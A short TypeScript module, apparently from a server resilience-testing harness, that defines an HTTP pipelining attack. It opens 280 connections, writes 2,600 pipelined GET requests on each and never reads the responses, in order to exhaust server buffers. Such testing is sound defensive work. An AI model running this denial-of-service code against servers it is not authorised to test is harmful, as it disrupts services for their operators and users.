import type { Attack } from './attack.ts'
import { holdConnections } from './held-connections.ts'

const CONNECTIONS = 280
/** Together longer than the 64 KiB that a server reads at once. */
const REQUESTS = 2600

/** Connections full of short requests whose responses nobody reads (HTTP pipelining). */
export const pipelining: Attack = {
  name: 'pipelined requests',
  addresses: [1, 2, 3],
  prepare: async ({ url }) => {
    const text = `GET / HTTP/1.1\r\nHost: ${new URL(url).host}\r\n\r\n`.repeat(REQUESTS)
    return (from) => holdConnections(url, { count: CONNECTIONS, from, onOpen: (socket) => void socket.write(text) })
  },
}
